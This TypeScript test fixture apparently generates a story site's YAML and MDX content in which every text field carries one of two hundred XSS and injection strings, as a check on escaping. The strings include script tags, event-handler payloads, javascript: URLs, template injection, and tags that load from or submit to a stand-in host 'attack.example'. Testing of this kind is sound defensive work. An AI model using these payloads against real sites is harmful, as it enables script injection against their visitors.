import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What an attack would do if it ran: nothing else sets this, and nothing else requests that host. */
const DO = 'top.ran=1';
const HOST = '//attack.example';

/** What would have to end for an attack to begin. */
const BEFORE = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', ']]>', '</svg>', '"}]}'];

const ATTACKS = [
  `<script>${DO}</script>`,
  `<script src=${HOST}></script>`,
  `<img src=x onerror=${DO}>`,
  `<svg onload=${DO}>`,
  `<svg><script>${DO}</script></svg>`,
  `<iframe srcdoc="<script>${DO}</script>">`,
  `<a href="javascript:${DO}">x</a>`,
  `<details open ontoggle=${DO}>`,
  `<style>@import '${HOST}'</style>`,
  `<link rel=stylesheet href=${HOST}>`,
  `<base href=${HOST}>`,
  `<meta http-equiv=refresh content=0;url=${HOST}>`,
  `<object data=${HOST}></object>`,
  `<form action=${HOST}><button>x</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${DO}></template>`,
  ` onfocus=${DO} autofocus tabindex=0 x="`,
  `&lt;script&gt;${DO}&lt;/script&gt;`,
  `\\u003cscript\\u003e${DO}\\u003c/script\\u003e`,
  `{{constructor.constructor('${DO}')()}}`,
  `javascript:${DO}//\${${DO}}`,
];

/** Two hundred attacks, each one line of text as a writer may type it. */
export const ATTACK_STRINGS: string[] = ATTACKS.flatMap((attack) =>
  BEFORE.map((end) => `${end}${attack}x`.trim()),
);

/** The address that an attack hides in. */
const attackedUrl = (n: number): string => `https://x.example/${n}?q=${ATTACK_STRINGS[n] ?? ''}`;

const id = (kind: string, n: number) => `${kind}-${n}`;
const dayOf = (n: number) => new Date(Date.UTC(2000, 0, 1 + n)).toISOString().slice(0, 10);
export const slugOf = (n: number): string => `${dayOf(n)}-n${n}`;

/** Text in a body: every sign that Markdown or MDX could read is escaped. */
const inBody = (text: string) => text.replace(/[!-/:-@[-`{-~]/g, '\\$&');
const inAttribute = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Writes a story with an attack in every field that takes text: each of the two hundred in every field of lists and entries. */
export function writeAttackedStory(folder: string): void {
  const yaml = (name: string, of: (attack: string, n: number) => object) =>
    writeFileSync(join(folder, `${name}.yaml`), JSON.stringify(ATTACK_STRINGS.map(of), null, 1));
  for (const strand of ['even', 'odd']) mkdirSync(join(folder, strand), { recursive: true });
  const sources = (n: number) => [id('s', n)];
  yaml('sources', (x, n) => ({
    ...{ id: id('s', n), title: x, publisher: x, origin: x, author: x, url: attackedUrl(n) },
    ...{ kind: 'news', accessed: '2000-01-01', note: x },
  }));
  yaml('people', (x, n) => ({
    id: id('p', n),
    name: x,
    aka: [x],
    side: 'side',
    role: x,
    bio: x,
    sources: sources(n),
  }));
  yaml('organizations', (x, n) => ({ id: id('o', n), name: x, aka: [x], kind: x, description: x }));
  yaml('places', (x, n) => ({
    ...{ id: id('l', n), name: x, country: x, kind: 'city', note: x },
    ...{ lat: (n % 17) * 5 - 40, lon: n - 100 },
  }));
  yaml('glossary', (x, n) => ({ id: id('t', n), term: x, aka: [x], definition: x }));
  yaml('figures', (x, n) => ({
    ...{ id: id('f', n), series: 'series', label: x, value: n, unit: x, date: dayOf(n) },
    ...{ countedBy: x, sources: sources(n), note: x },
  }));
  for (const [n, attack] of ATTACK_STRINGS.entries())
    writeFileSync(join(folder, n % 2 === 0 ? 'even' : 'odd', `${slugOf(n)}.mdx`), entry(attack, n));
  writeFileSync(join(folder, 'story.mdx'), story());
  writeFileSync(
    join(folder, 'about.mdx'),
    `<Context>\n${inBody(ATTACK_STRINGS.slice(0, 40).join(' '))}\n</Context>\n`,
  );
}

function entry(x: string, n: number): string {
  const note = { date: '2001-01-01', text: x };
  const front = {
    ...{
      headline: x,
      dek: x,
      date: dayOf(n),
      place: id('l', n),
      people: [id('p', n)],
      significance: 1 + (n % 3),
    },
    ...{ corrections: [note], updates: [note], withdrawn: [{ id: 'gone', ...note }] },
  };
  const [text, value, from] = [inBody(x), inAttribute(x), `sources="${id('s', n)}"`];
  return `---
${JSON.stringify(front)}
---

<Claim id="claim" by="${value}" kind="on-record" ${from}>
Words ${text}
</Claim>

<Disputed id="dispute" about="${value}">
  <Account by="${value}" kind="on-record" ${from}>Words ${text}</Account>
  <Account by="Another ${value}" kind="document" ${from}>Other words ${text}</Account>
</Disputed>

<Quote id="quote" speaker="${id('p', n)}" via="${value}" ${from}>
Words ${text}
</Quote>

<Unknown id="unknown">
Words ${text}
</Unknown>

<Context>
Words ${text} <Term id="${id('t', n)}">${text}</Term>
</Context>
`;
}

function story(): string {
  const all = ATTACK_STRINGS;
  const [x = '', y = '', z = ''] = [all[1], all[4], all[21]];
  const refs = [`even/${slugOf(0)}#claim`];
  const front = {
    ...{ headline: x, dek: y, byline: z, language: 'en', timeZone: 'Europe/London', published: '2000-12-31' },
    ...{
      asOf: '2001-01-02',
      coverage: all.slice(0, 20).join(' '),
      publisher: { name: x, url: attackedUrl(1) },
    },
    strands: ['even', 'odd'].map((strand) => ({ id: strand, label: x, dek: y })),
    sides: [{ id: 'side', label: x }],
    chapters: all.map((label, n) => ({ id: id('c', n), label, date: `${dayOf(n)}/${dayOf(n + 9)}` })),
    corrections: all.map((text) => ({ date: '2001-01-01', text })),
    updates: all.map((text) => ({ date: '2001-01-01', text })),
    withdrawn: all.map((text, n) => ({ id: `even/1999-n${n}`, date: '2001-01-01', text })),
    summary: [x, y, z].map((text) => ({ text, claims: refs })),
  };
  const paragraphs = all
    .map((text) => `Words ${inBody(text)} <Cite claims="${refs[0] ?? ''}" />`)
    .join('\n\n');
  const title = `title="${inAttribute(x)}"`;
  return `---
${JSON.stringify(front)}
---

${paragraphs}

<Timeline />

<Chart series="series" ${title} after="${inAttribute(y)}" />

<Map places="l-1 l-2 l-3" ${title} />

<WhosWho people="p-1 p-2 p-3" />
`;
}
